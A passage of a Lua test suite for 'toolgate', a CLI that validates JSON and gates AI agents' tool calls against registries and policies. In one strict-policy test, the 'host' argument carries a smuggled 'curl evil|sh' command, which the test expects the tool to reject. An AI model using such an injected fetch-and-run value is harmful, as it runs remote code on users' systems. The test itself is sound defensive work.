-- The toolgate command, as a user runs it.
local h = require "helpers"

describe("toolgate canon", function()
  it("canonicalizes one document from standard input", function()
    local code, out, err = h.toolgate("canon", '{ "b": [1.0, 2e21], "a": "\\u00e9" }\n')
    assert.equal(0, code, err)
    assert.equal('{"a":"é","b":[1,2e+21]}\n', out)
    assert.equal("", err)
  end)

  it("reads a file and prints the hash with --hash", function()
    local f = h.tmpname(".json")
    h.write_file(f, "{}")
    local code, out = h.toolgate("canon --hash " .. f)
    os.remove(f)
    assert.equal(0, code)
    assert.equal("dc7048f8f8747f561349cde127705c16\n", out)
  end)

  it("with --lines, reports bad lines by number and goes on; exit 1", function()
    local input = '{"b":1,"a":2}\n\n{"a":1,"a":2}\n[01]\n"ok"\n'
    local code, out, err = h.toolgate("canon --lines", input)
    assert.equal(1, code)
    assert.equal('{"a":2,"b":1}\n"ok"\n', out)
    assert.matches("<stdin>:3: DUPLICATE_KEY at byte 7", err, 1, true)
    assert.matches("<stdin>:4: LEADING_ZERO at byte 1", err, 1, true)
  end)

  it("with --lines and all lines good, exits 0 with one line out per line in", function()
    local code, out = h.toolgate("canon --lines --hash", "{}\n[]\n{}\n")
    assert.equal(0, code)
    local lines = {}
    for l in out:gmatch("[^\n]+") do lines[#lines + 1] = l end
    assert.equal(3, #lines)
    assert.equal(lines[1], lines[3])
    assert.equal(32, #lines[2])
  end)

  it("exits 1 on a malformed document, naming the problem", function()
    local code, out, err = h.toolgate("canon", "[1,]")
    assert.equal(1, code)
    assert.equal("", out)
    assert.matches("SYNTAX at byte 3", err, 1, true)
  end)

  it("exits 2 on bad usage and unreadable input", function()
    local code, _, err = h.toolgate("canon --frobnicate")
    assert.equal(2, code)
    assert.matches("unknown option --frobnicate", err, 1, true)
    assert.matches("see 'toolgate canon --help'", err, 1, true)
    code, _, err = h.toolgate("canon /nonexistent/file.json")
    assert.equal(2, code)
    assert.matches("cannot read", err, 1, true)
    code = h.toolgate("canon a.json b.json")
    assert.equal(2, code)
    code = h.toolgate("frobnicate")
    assert.equal(2, code)
  end)

  it("exits 2 saying so when its output cannot be written, as every command does", function()
    local docs = h.root .. "/examples/calls/mcp-calls.jsonl"
    local schema = h.tmpname(".json")
    h.write_file(schema, '{"type":"object"}')
    for _, args in ipairs({ "canon --lines " .. docs, "canon --lines --hash " .. docs,
        "validate --lines --schema " .. schema .. " " .. docs,
        "registry lint " .. h.root .. "/examples/registries/mcp-memory.json" }) do
      local code, _, err = h.run("sh -c " .. h.shell_quote(h.lua .. " " .. h.root .. "/bin/toolgate " .. args
        .. " > /dev/full"))
      assert.equal(2, code, args)
      assert.matches(": cannot write the output: No space left on device\n$", err, 1, false)
    end
    os.remove(schema)
  end)

  it("with --lines, reads a pipe in any pieces as it reads the file, bad lines reported in order", function()
    local input = h.tmpname(".jsonl")
    local docs = {}
    for i = 1, 3000 do docs[i] = i % 97 == 0 and "[1," or string.format('{"n":%d.50,"s":"\\u00e9%d"}', i, i) end
    h.write_file(input, table.concat(docs, "\n"))
    local cmd = h.lua .. " " .. h.root .. "/bin/toolgate canon --lines --hash"
    local code, want, werr = h.run(cmd .. " " .. input)
    assert.equal(1, code)
    assert.equal(3000 - 30, select(2, want:gsub("\n", "")))
    assert.matches(":97: UNEXPECTED_END", werr, 1, true)
    local feed = "python3 -c " .. h.shell_quote("import sys\nt=open(sys.argv[1],'rb').read()\n"
      .. "for i in range(0,len(t),333):\n  sys.stdout.buffer.write(t[i:i+333]); sys.stdout.flush()\n") .. " " .. input
    local code2, got, gerr = h.run("sh -c " .. h.shell_quote(feed .. " | " .. cmd))
    os.remove(input)
    assert.equal(1, code2)
    assert.equal(want, got)
    local function by_line(err) return (err:gsub("toolgate canon: [^\n]-:(%d+): ", "%1: ")) end
    assert.matches("^toolgate canon: <stdin>:97: ", gerr)
    assert.equal(by_line(werr), by_line(gerr))
  end)

  it("helps", function()
    local code, out = h.toolgate("--help")
    assert.equal(0, code)
    assert.matches("canon", out)
    code, out = h.toolgate("canon --help")
    assert.equal(0, code)
    assert.matches("--lines", out, 1, true)
    code, out = h.toolgate("--version")
    assert.equal(0, code)
    assert.matches("^toolgate 0%.1%.0", out)
  end)
end)

describe("toolgate check", function()
  local regs = "--policy rung"
    .. " --registry examples/registries/mcp-filesystem.json --registry examples/registries/mcp-everything.json"
    .. " --registry examples/registries/mcp-memory.json"

  local function decisions(out)
    local cjson = require "cjson"
    local list = {}
    for line in out:gmatch("[^\n]+") do list[#list + 1] = cjson.decode(line) end
    return list
  end

  it("writes one decision per call line, in every call format", function()
    local code, out, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check " .. regs ..
      " examples/calls/mcp-calls.jsonl")
    assert.equal(0, code, err)
    local d = decisions(out)
    assert.equal(11, #d)
    local want = { "accept", "accept", "accept", "accept", "H1", "H2", "H2", "H3", "H3", "BAD_ARGUMENTS", "H2" }
    for i, w in ipairs(want) do
      assert.equal(w, d[i].code or d[i].verdict, "line " .. i)
      assert.equal(i, d[i].line)
    end
    assert.equal("call_7", d[3].id)
    assert.equal("/encoding", d[6].path)
    assert.equal("/entities/0/observations", d[11].path)
  end)

  it("says why and exits 2 when its input cannot be read or its output written", function()
    local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check " .. regs .. " "
    local code, out, err = h.run(base .. "/nonexistent/calls.jsonl")
    assert.equal(2, code)
    assert.equal("", out)
    local _
    assert.equal("toolgate check: cannot read /nonexistent/calls.jsonl: No such file or directory\n", err)
    code, _, err = h.run(base .. "/")
    assert.equal(2, code)
    assert.equal("toolgate check: cannot read /: Is a directory\n", err)
    -- a full disk: said, not a silent success with the decisions lost
    code, _, err = h.run("sh -c " .. h.shell_quote(base .. "examples/calls/mcp-calls.jsonl > /dev/full"))
    assert.equal(2, code)
    assert.equal("toolgate check: cannot write the output: No space left on device\n", err)
    code, _, err = h.run("sh -c " .. h.shell_quote(base .. "--threads 2 examples/calls/mcp-calls.jsonl > /dev/full"))
    assert.equal(2, code)
    assert.matches("No space left on device", err, 1, true)
  end)

  it("reads standard input given as a pipe, in any pieces, and a last line without its newline", function()
    local file = h.root .. "/examples/calls/mcp-calls.jsonl"
    local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check " .. regs
    local code, want, err = h.run(base .. " " .. file)
    assert.equal(0, code, err)
    -- the calls a few bytes at a time through a pipe, the final newline dropped
    local feed = "python3 -c " .. h.shell_quote("import sys,time\nt=open(sys.argv[1],'rb').read().rstrip(b'\\n')\n"
      .. "for i in range(0,len(t),7):\n  sys.stdout.buffer.write(t[i:i+7]); sys.stdout.flush()\n") .. " " .. file
    local got
    code, got, err = h.run("sh -c " .. h.shell_quote(feed .. " | " .. h.lua .. " " .. h.root .. "/bin/toolgate check "
      .. regs:gsub("examples/", h.root .. "/examples/") .. " -"))
    assert.equal(0, code, err)
    assert.equal(want, got)
  end)

  it("exits 1 with --fail-on reject when something is refused, 0 when nothing is", function()
    local code = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --fail-on reject " .. regs ..
      " examples/calls/mcp-calls.jsonl")
    assert.equal(1, code)
    code = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --fail-on reject " .. regs,
      '{"server":"memory","name":"read_graph","arguments":{}}\n')
    assert.equal(0, code)
  end)

  it("writes a decision per call of a line (line, index, format), none for a line of no call", function()
    local read = '{"id":"c1","type":"function","function":{"name":"read_text_file","arguments":"{\\"path\\":\\"/a\\"}"}}'
    local bad = '{"id":"c2","type":"function","function":{"name":"read_txt_file","arguments":"{}"}}'
    local input = table.concat({
      '{"role":"assistant","content":null,"tool_calls":[' .. read .. "," .. bad .. "," .. read .. "]}",
      '{"role":"assistant","content":"No call.","refusal":null}',
      "[" .. read .. "]",
      '{"name":"get-resource-links","args":{"count":999}}',
    }, "\n") .. "\n"
    local code, out, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check " .. regs, input)
    assert.equal(0, code, err)
    local got = {}
    for _, d in ipairs(decisions(out)) do
      got[#got + 1] = { d.line, d.index or -1, d.format or "-", d.code or d.verdict, d.id or "-" }
    end
    assert.same({
      { 1, 0, "openai-message", "accept", "c1" }, { 1, 1, "openai-message", "H1", "c2" },
      { 1, 2, "openai-message", "accept", "c1" },
      { 3, 0, "openai-tool-calls", "accept", "c1" },
      { 4, -1, "-", "BAD_CALL", "-" },
    }, got)
  end)

  it("--fail-on counts calls: one refused call of a line is enough", function()
    local ok = '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_graph","arguments":{}}}'
    local nope = '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"read_grph","arguments":{}}}'
    local code = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --fail-on reject " .. regs,
      "[" .. ok .. "," .. ok .. "]\n")
    assert.equal(0, code)
    code = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --fail-on reject " .. regs,
      "[" .. ok .. "," .. nope .. "]\n")
    assert.equal(1, code)
  end)

  it("uses --server for calls that name none, and --also for H5", function()
    local code, out = h.run("cd " .. h.root .. " && " .. h.lua ..
      " bin/toolgate check --also --server filesystem " .. regs,
      '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_file_info","arguments":{"path":"/a"}}}\n')
    assert.equal(0, code)
    local d = decisions(out)[1]
    assert.equal("accept", d.verdict)
    assert.equal("filesystem", d.server)
    assert.is_true(#d.also_accepted_by >= 3)
  end)

  it("exits 2 for a registry it cannot load, saying why", function()
    local code, _, err = h.run("cd " .. h.root .. " && " .. h.lua ..
      " bin/toolgate check --registry spec/data/registries/unsupported.json", "{}\n")
    assert.equal(2, code)
    assert.matches("UNSUPPORTED_KEYWORD", err, 1, true)
    code, _, err = h.toolgate("check", "{}\n")
    assert.equal(2, code)
    assert.matches("no registry", err, 1, true)
    code, _, err = h.toolgate("check --policy nosuchpolicy --registry x.json", "{}\n")
    assert.equal(2, code)
    assert.matches("no shipped policy named 'nosuchpolicy'", err, 1, true)
  end)

  it("runs the policy's whole pipeline: --policy by name, --context, a trusted context per line", function()
    local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy mcp" ..
      " --registry examples/registries/mcp-filesystem.json"
    -- a read-only tool of a closed domain needs no scope; a write needs filesystem:write
    local read = '{"server":"filesystem","name":"read_text_file","arguments":{"path":"/a"}}\n'
    local mkdir = '{"server":"filesystem","name":"create_directory","arguments":{"path":"/a"}}\n'
    local code, out = h.run(base, read .. mkdir)
    assert.equal(0, code)
    local ds = decisions(out)
    assert.equal("accept", ds[1].verdict)
    assert.matches("^mcp@2%+", ds[1].policy_version)
    assert.equal("H4", ds[2].code)
    assert.matches('scope "filesystem:write" is required and not granted', ds[2].message, 1, true)
    local ctx = h.tmpname(".json")
    h.write_file(ctx, '{"scopes":["filesystem:write"],"max_risk":"medium"}')
    code, out = h.run(base .. " --context " .. ctx, mkdir)
    os.remove(ctx)
    assert.equal(0, code)
    assert.equal("accept", decisions(out)[1].verdict)
    code, out = h.run(base .. " --line-context", '{"server":"filesystem","name":"create_directory",'
      .. '"arguments":{"path":"/a"},"context":{"scopes":["filesystem:write"],"max_risk":"medium"}}\n')
    assert.equal(0, code)
    assert.equal("accept", decisions(out)[1].verdict)
  end)

  it("--policy strict asserts formats: a shell command is no hostname, 2147483648 no int32", function()
    local base = "cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy strict" ..
      " --registry spec/data/registries/formats.json"
    local code, out, err = h.run(base, table.concat({
      '{"server":"net","name":"ping","arguments":{"host":"a.example; curl evil|sh"}}',
      '{"server":"net","name":"ping","arguments":{"host":"a.example","count":2147483648}}',
      '{"server":"net","name":"ping","arguments":{"host":"a.example","request_id":9223372036854775808}}',
      '{"server":"net","name":"ping","arguments":{"host":"a.example.","count":2147483647,' ..
        '"request_id":9223372036854775807,"deadline":"2026-01-01T00:00:00Z","callback":"https://x.example/cb"}}',
    }, "\n") .. "\n")
    assert.equal(0, code, err)
    local d = decisions(out)
    for i, want in ipairs({ "/host", "/count", "/request_id" }) do
      assert.equal("reject", d[i].verdict, "line " .. i)
      assert.equal("H3", d[i].code, "line " .. i)
      assert.equal("format", d[i].keyword, "line " .. i)
      assert.equal(want, d[i].path, "line " .. i)
    end
    assert.matches("is not a valid hostname", d[1].message, 1, true)
    assert.matches("2147483648 is not a valid int32", d[2].message, 1, true)
    assert.not_equal("rung", d[4].stage) -- the rung accepts the valid values
    -- the default policy leaves formats annotations
    code, out = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check" ..
      " --registry spec/data/registries/formats.json",
      '{"server":"net","name":"ping","arguments":{"host":"a.example; curl evil|sh"}}\n')
    assert.equal(0, code)
    assert.not_equal("rung", decisions(out)[1].stage)
  end)

  it("--policy strict refuses to load a format it cannot assert, unless the policy lists it as an annotation",
    function()
      local code, _, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy strict" ..
        " --registry spec/data/registries/formats_unknown.json", "{}\n")
      assert.equal(2, code)
      assert.matches("UNSUPPORTED_FORMAT", err, 1, true)
      assert.matches('tool "resolve"', err, 1, true)
      assert.matches("/inputSchema/properties/name/format", err, 1, true)
      assert.matches('"idn-hostname"', err, 1, true)
      local policy = h.tmpname(".lua")
      h.write_file(policy, "return { name = 'strict-idn', version = '1', registry = { assert_formats = true," ..
        " annotation_formats = { 'idn-hostname' } } }")
      local out
      code, out, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy " .. policy ..
        " --registry spec/data/registries/formats_unknown.json",
        '{"server":"net","name":"resolve","arguments":{"name":"b\195\188cher.example"}}\n')
      os.remove(policy)
      assert.equal(0, code, err)
      assert.not_equal("rung", decisions(out)[1].stage)
    end)

  it("refuses a policy that puts the gate before the rung", function()
    local bad = h.tmpname(".lua")
    h.write_file(bad, "return { name = 'bad', version = '1', stages = { 'gate', 'rung' } }")
    local code, _, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check --policy " .. bad ..
      " --registry examples/registries/mcp-filesystem.json", "{}\n")
    os.remove(bad)
    assert.equal(2, code)
    assert.matches("POLICY_ORDER", err, 1, true)
  end)
end)

describe("a user who arrives with the tool lists they have", function()
  local QS = "examples/quickstart/"
  local function check(args, stdin)
    return h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate check " .. args, stdin)
  end
  local function codes(out)
    local cjson = require "cjson"
    local list = {}
    for line in out:gmatch("[^\n]+") do
      local d = cjson.decode(line)
      list[#list + 1] = d.code or d.verdict
    end
    return list
  end

  it("gets accepts and clear rejects from an OpenAI or Anthropic tools list with --policy rung", function()
    local code, out, err = check("--policy rung --registry " .. QS .. "openai-tools.json " .. QS .. "openai-calls.jsonl")
    assert.equal(0, code, err)
    assert.equal("", err)
    assert.same({ "accept", "H3", "H1", "H2" }, codes(out))
    code, out, err = check("--policy rung --registry " .. QS .. "anthropic-tools.json " .. QS .. "anthropic-calls.jsonl")
    assert.equal(0, code, err)
    assert.same({ "accept", "H2" }, codes(out))
  end)

  it("gets accepts for read-only MCP tools with --policy mcp, and no scope asked of them", function()
    local code, out, err = check("--policy mcp --registry examples/registries/mcp-filesystem.json "
      .. QS .. "mcp-calls.jsonl")
    assert.equal(0, code, err)
    assert.equal("", err) -- every tool has a contract: no warning
    assert.same({ "accept", "H4", "H1" }, codes(out))
    code, out = check("--policy mcp --registry examples/registries/mcp-filesystem.json --context "
      .. QS .. "context.json " .. QS .. "mcp-calls.jsonl")
    assert.equal(0, code)
    assert.same({ "accept", "accept", "H1" }, codes(out))
  end)

  it("is told once, at load, that the gate refuses tools without a risk, and how to give them one", function()
    for _, cmd in ipairs({ "check", "classify" }) do
      local code, _, err = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate " .. cmd .. " --registry "
        .. QS .. "openai-tools.json " .. QS .. "openai-calls.jsonl")
      assert.equal(0, code, err)
      local lines = h.lines_of(err)
      assert.equal(1, #lines, err)
      assert.matches("^toolgate " .. cmd .. ": warning: gate: 2 of 2 tools declare no risk", lines[1])
      assert.matches('"get_weather", "send_email"', lines[1], 1, true)
      assert.matches('"risk"', lines[1], 1, true)
      assert.matches("contract(tool)", lines[1], 1, true)
      assert.matches("--policy rung", lines[1], 1, true)
    end
    -- an MCP list under a policy that maps nothing: the warning names --policy mcp
    local _, _, err = check("--registry examples/registries/mcp-memory.json", "")
    assert.matches("9 of 9 tools declare no risk", err, 1, true)
    assert.matches("--policy mcp", err, 1, true)
    -- no warning where nothing is missing, or nothing reads it
    for _, args in ipairs({ "--policy rung --registry " .. QS .. "openai-tools.json",
      "--registry spec/data/registries/formats.json", "--policy example" }) do
      _, _, err = check(args, "")
      assert.equal("toolgate check: <stdin>: no call in it (an empty input, or text-only messages)\n", err, args)
    end
  end)

  it("reads in each H4 for a missing risk the ways to give the tool one", function()
    local code, out = check("--registry " .. QS .. "openai-tools.json " .. QS .. "openai-calls.jsonl")
    assert.equal(0, code)
    assert.same({ "H4", "H3", "H1", "H2" }, codes(out))
    local d = require("cjson").decode(out:match("^[^\n]+"))
    assert.matches('no declared risk (counted as the highest) is above the allowed "medium": give the tool a risk '
      .. '(a "risk" in toolgate\'s registry format, or the policy\'s contract(tool) mapping), or check the schemas '
      .. 'alone with the policy "rung"', d.message, 1, true)
  end)

  it("is told to give --registry when there is no registry", function()
    local code, out, err = h.toolgate("check", "{}\n")
    assert.equal(2, code)
    assert.equal("", out)
    assert.equal("toolgate check: NO_REGISTRY: no registry: give the tools' list with --registry [SERVER=]FILE "
      .. "(or list it in the policy's registry.sources)\n", err)
  end)

  it("is told to name servers with SERVER=FILE when two files' tools clash, the code said once", function()
    local code, _, err = check("--registry " .. QS .. "openai-tools.json --registry " .. QS .. "anthropic-tools.json",
      "")
    assert.equal(2, code)
    assert.equal(1, #h.lines_of(err))
    local _, n = err:gsub("DUPLICATE_TOOL", "")
    assert.equal(1, n, err)
    assert.matches("SERVER=FILE (e.g. --registry other=" .. QS .. "anthropic-tools.json)", err, 1, true)
    -- named, they load
    code, _, err = check("--registry weather=" .. QS .. "openai-tools.json --registry " .. QS .. "anthropic-tools.json",
      "")
    assert.equal(0, code, err)
  end)

  it("gets one line and exit 2 for each policy mistake of the issue, never a traceback", function()
    local cases = {
      { 'registry = { on_shadowing = "rejet" }', 'registry.on_shadowing: must be "error", "reject" or "allow", '
        .. 'not "rejet" (did you mean "reject"?)' },
      { "limits = { max_depht = 8 }", 'limits.max_depht: unknown limit (did you mean "max_depth"?)' },
      { "registry = { clossed = true }", 'registry.clossed: unknown setting (did you mean "closed"?)' },
      { 'registry = { closed = "no" }', 'registry.closed: must be true or false, not "no"' },
      { 'registry = { assert_formats = "yes" }', 'registry.assert_formats: must be true or false, not "yes"' },
      { 'registry = { sources = "fs.json" }', 'registry.sources: must be a list of registry files, not a string '
        .. '(for one file: sources = { "fs.json" })' },
      { "limits = { max_depth = 0 }", "limits.max_depth: limit max_depth = 0 is outside 1..1000" },
      { 'nmae = "x"', 'nmae: unknown field (did you mean "name"?)' },
    }
    for _, c in ipairs(cases) do
      local path = h.tmpname(".lua")
      h.write_file(path, 'return { name = "t", version = "1", ' .. c[1] .. " }")
      local code, out, err = check("--policy " .. path, "")
      os.remove(path)
      assert.equal(2, code, c[1])
      assert.equal("", out)
      assert.equal("toolgate check: POLICY_INVALID: policy " .. c[2] .. "\n", err)
    end
  end)

  it("finds shipped policies by name, or in $TOOLGATE_POLICY_DIR alone when it is set", function()
    local dir = h.tmpname("")
    assert.equal(0, h.run("mkdir -p " .. dir))
    h.write_file(dir .. "/mine.lua", 'return { name = "mine", version = "7", stages = { "rung" } }')
    local code, out = h.run("cd " .. h.root .. " && TOOLGATE_POLICY_DIR=" .. dir .. " " .. h.lua ..
      " bin/toolgate check --policy mine --registry " .. QS .. "openai-tools.json " .. QS .. "openai-calls.jsonl")
    assert.equal(0, code)
    assert.matches('"policy_version":"mine@7+', out, 1, true)
    local _, err
    code, _, err = h.run("cd " .. h.root .. " && TOOLGATE_POLICY_DIR=" .. dir .. " " .. h.lua ..
      " bin/toolgate check --policy rung --registry " .. QS .. "openai-tools.json", "")
    assert.equal(2, code)
    assert.matches("no shipped policy named 'rung' in " .. dir, err, 1, true)
    os.remove(dir .. "/mine.lua")
    os.remove(dir)
  end)
end)

describe("toolgate validate", function()
  local schema = h.tmpname(".json")
  h.write_file(schema, '{"type":"object","properties":{"a":{"type":"integer","minimum":1}},"required":["a"]}')

  it("uses standard semantics unless --closed", function()
    local code, out = h.toolgate("validate --schema " .. schema, '{"a":2,"b":1}')
    assert.equal(0, code)
    assert.equal('{"errors":[],"valid":true}\n', out)
    code, out = h.toolgate("validate --closed --schema " .. schema, '{"a":2,"b":1}')
    assert.equal(0, code)
    assert.matches('"keyword":"closed"', out, 1, true)
    assert.matches('"valid":false', out, 1, true)
  end)

  it("validates one instance per line with --lines", function()
    local code, out, err = h.toolgate("validate --lines --schema " .. schema, '{"a":1}\n{"a":0}\n[\n{}\n')
    assert.equal(1, code) -- line 3 is not JSON
    assert.matches("<stdin>:3: UNEXPECTED_END", err, 1, true)
    local lines = {}
    for l in out:gmatch("[^\n]+") do lines[#lines + 1] = l end
    assert.equal(3, #lines)
    assert.matches('"line":2', lines[2], 1, true)
    assert.matches('"keyword":"minimum"', lines[2], 1, true)
    assert.matches('"keyword":"required"', lines[3], 1, true)
  end)

  it("asserts formats with --assert-formats, refuses one it cannot check, leaves listed ones alone", function()
    local s = h.tmpname(".json")
    h.write_file(s, '{"type":"object","properties":{"when":{"type":"string","format":"date"},' ..
      '"to":{"type":"string","format":"idn-email"}}}')
    local inst = '{"when":"2026-02-30","to":"x"}'
    local code, out = h.toolgate("validate --schema " .. s, inst)
    assert.equal(0, code)
    assert.equal('{"errors":[],"valid":true}\n', out) -- annotations by default
    local err, _
    code, _, err = h.toolgate("validate --assert-formats --schema " .. s, inst)
    assert.equal(2, code) -- never a format that passes unchecked
    assert.matches('UNSUPPORTED_FORMAT at /properties/to/format: format "idn-email"', err, 1, true)
    code, out = h.toolgate("validate --assert-formats --annotation-format idn-email --schema " .. s, inst)
    assert.equal(0, code)
    assert.matches('"keyword":"format"', out, 1, true)
    assert.matches('"path":"/when"', out, 1, true)
    assert.not_matches('"path":"/to"', out, 1, true)
    code, _, err = h.toolgate("validate --annotation-format idn-email --schema " .. s, inst)
    assert.equal(2, code)
    assert.matches("--annotation-format needs --assert-formats", err, 1, true)
    os.remove(s)
  end)

  it("exits 2 for a schema it cannot compile", function()
    local bad = h.tmpname(".json")
    h.write_file(bad, '{"properties":{"a":{"if":{}}}}')
    local code, _, err = h.toolgate("validate --schema " .. bad, "{}")
    os.remove(bad)
    assert.equal(2, code)
    assert.matches("UNSUPPORTED_KEYWORD at /properties/a", err, 1, true)
  end)
end)

describe("toolgate registry lint", function()
  it("lists every finding and a summary; exit 1 on errors", function()
    local code, out = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate registry lint" ..
      " web=spec/data/registries/openai.json spec/data/registries/anthropic.json" ..
      " spec/data/registries/bad_names.json spec/data/registries/unsupported.json")
    assert.equal(1, code)
    for _, kind in ipairs({ "schema", "bad_name", "collision", "shadowing", "confusable" }) do
      assert.matches('"kind":"' .. kind .. '"', out, 1, true)
    end
    assert.matches('"summary":{"errors":1,', out, 1, true)
  end)

  it("exits 0 for the recorded MCP registries, with --strict too", function()
    local code, out = h.run("cd " .. h.root .. " && " .. h.lua .. " bin/toolgate registry lint --strict" ..
      " examples/registries/mcp-filesystem.json examples/registries/mcp-everything.json" ..
      " examples/registries/mcp-memory.json")
    assert.equal(0, code, out)
    assert.matches('"tools":36', out, 1, true)
  end)
end)

describe("toolgate classify", function()
  local dir, plans, policy, registry

  setup(function()
    assert.is_true(h.have("python3"), "python3 is needed (make test installs it)")
    dir = h.tmpname(".classify")
    assert.equal(0, (h.run("mkdir -p " .. h.shell_quote(dir))))
    plans, policy, registry = dir .. "/plans.jsonl", dir .. "/policy.lua", dir .. "/registry.json"
    -- 8 samples a plan: shares of eighths, which the two bindings rounded
    -- differently; quarantines early, and plans whose verdict depends on them
    local code, text, err = h.run(string.format("python3 %s/bench/gen_plans.py --seed 3 --count 1500 --samples 8 "
      .. "--registry-out %s", h.root, h.shell_quote(registry)))
    assert.equal(0, code, err)
    h.write_file(plans, text)
    h.write_file(policy, 'return { name = "c", version = "1", stages = { "rung", "consistency" } }')
  end)

  teardown(function()
    if dir then h.run("rm -rf " .. h.shell_quote(dir)) end
  end)

  local function classify(lua, args)
    return h.run(string.format("%s %s/bin/toolgate classify --policy %s --registry %s %s %s", lua, h.root,
      h.shell_quote(policy), h.shell_quote(registry), args or "", h.shell_quote(plans)))
  end

  it("gives the same bytes, and quarantines the same tools, on 1, 2 and 3 threads", function()
    local code, one, err = classify(h.lua, "--threads 1")
    assert.equal(0, code, err)
    assert.matches("quarantined: ", err, 1, true)
    local n = select(2, one:gsub("\n", ""))
    assert.equal(1500, n)
    for _, t in ipairs({ 2, 3 }) do
      local code2, many, err2 = classify(h.lua, "--threads " .. t)
      assert.equal(0, code2, err2)
      assert.equal(one, many)
      assert.equal(err, err2)
    end
    -- the core reading the file (engine:classify_file) gives what
    -- classify_stream gives from Lua's pieces
    local e = assert(require("toolgate").new({ policy = policy, registry = { registry } }))
    local text, got, done = h.read_file(plans), {}, false
    e:classify_stream(function() if done then return nil end done = true return text end,
      function(...) got[#got + 1] = table.concat({ ... }) end)
    assert.equal(one, table.concat(got))
  end)

  it("gives the same bytes under both interpreters", function()
    local code1, out1, err1 = classify(h.lua)
    local code2, out2, err2 = classify(h.other_lua)
    assert.equal(0, code1, err1)
    assert.equal(0, code2, err2)
    assert.equal(out1, out2)
    assert.equal(err1, err2)
    assert.matches("0.12", out1, 1, true)
  end)

  it("classifies on one thread when the policy has a stage of its own, with the same bytes", function()
    local own = dir .. "/own.lua"
    h.write_file(own, [[return { name = "o", version = "1", stages = { "rung", "consistency",
      { name = "ask", run = function(call) if call.arguments.path then return { verdict = "defer", code = "ASK" } end end } } }]])
    local function run(threads)
      return h.run(string.format("%s %s/bin/toolgate classify --threads %d --policy %s --registry %s %s", h.lua,
        h.root, threads, h.shell_quote(own), h.shell_quote(registry), h.shell_quote(plans)))
    end
    local code1, out1, err1 = run(1)
    local code2, out2 = run(4)
    assert.equal(0, code1, err1)
    assert.equal(0, code2)
    assert.equal(out1, out2)
    assert.matches('"code":"ASK"', out1, 1, true)
  end)

  it("decides on as many threads as there are processors by default, at most 4", function()
    -- two on a 2-vCPU machine were measured faster than one (docs/performance.md)
    local cli = require "toolgate.cli"
    assert.same({ 1, 2, 3, 4, 4 }, { cli.default_threads(1), cli.default_threads(2), cli.default_threads(3),
      cli.default_threads(4), cli.default_threads(64) })
  end)

  it("says why and exits 2 when its output cannot be written", function()
    local code, _, err = h.run("sh -c " .. h.shell_quote(string.format(
      "%s %s/bin/toolgate classify --policy %s --registry %s %s > /dev/full", h.lua, h.root,
      h.shell_quote(policy), h.shell_quote(registry), h.shell_quote(plans))))
    assert.equal(2, code)
    assert.matches("toolgate classify: cannot write the output: No space left on device", err, 1, true)
  end)

  it("refuses a --threads or --fail-on it cannot honour", function()
    for _, args in ipairs({ "--threads 0", "--threads 65", "--threads x", "--fail-on maybe" }) do
      local code, _, err = classify(h.lua, args)
      assert.equal(2, code, args)
      assert.matches("see 'toolgate classify --help'", err, 1, true)
    end
    local code = classify(h.lua, "--fail-on defer")
    assert.equal(1, code)
  end)
end)

describe("a usage error says what to do in a line", function()
  local TYPOS = {
    { "canon --hsah", "canon", "--hsah", "--hash" },
    { "check --polcy rung", "check", "--polcy", "--policy" },
    { "check --polcy=rung", "check", "--polcy", "--policy" },
    { "check -policy rung", "check", "-policy", "--policy" },
    { "classify --treads 2", "classify", "--treads", "--threads" },
    { "test --updte c.jsonl", "test", "--updte", "--update" },
    { "validate --schmea s.json", "validate", "--schmea", "--schema" },
    { "sweep --gird x l.jsonl", "sweep", "--gird", "--grid" },
    { "policy lint --ntoes p.lua", "policy", "--ntoes", "--notes" },
    { "registry lint --strcit r.json", "registry", "--strcit", "--strict" },
    { "mcp-proxy --polcy p -- true", "mcp-proxy", "--polcy", "--policy" },
    { "gateway --lisen 127.0.0.1:1", "gateway", "--lisen", "--listen" },
    { "approvals --stat d list", "approvals", "--stat", "--state" },
    { "log --folow", "log", "--folow", "--follow" },
    { "probe --exce x", "probe", "--exce", "--exec" },
  }
  for _, t in ipairs(TYPOS) do
    local args, cmd, typo, meant = t[1], t[2], t[3], t[4]
    it("toolgate " .. args .. ": one line, did you mean " .. meant .. ", and where the options are; exit 2", function()
      local code, out, err = h.toolgate(args)
      assert.equal(2, code, err)
      assert.equal("", out)
      assert.equal(string.format("toolgate %s: unknown option %s (did you mean %s?); see 'toolgate %s --help'\n",
        cmd, typo, meant, cmd), err)
    end)
  end

  it("suggests nothing for a flag no option is close to, and still says where the options are", function()
    local code, out, err = h.toolgate("check --frobnicate")
    assert.equal(2, code)
    assert.equal("", out)
    assert.equal("toolgate check: unknown option --frobnicate; see 'toolgate check --help'\n", err)
  end)

  it("every usage error of a command is one line pointing at its --help, not the help itself", function()
    local code, out, err = h.toolgate("classify --threads 0")
    assert.equal(2, code)
    assert.equal("", out)
    assert.equal("toolgate classify: --threads takes a whole number from 1 to 64; see 'toolgate classify --help'\n",
      err)
  end)

  it("an unknown command names the command it was likely meant to be, in one line", function()
    local code, out, err = h.toolgate("chekc calls.jsonl")
    assert.equal(2, code)
    assert.equal("", out)
    assert.equal("toolgate: unknown command 'chekc' (did you mean check?); see 'toolgate --help'\n", err)
  end)
end)

describe("--policy naming a file that is not a Lua policy", function()
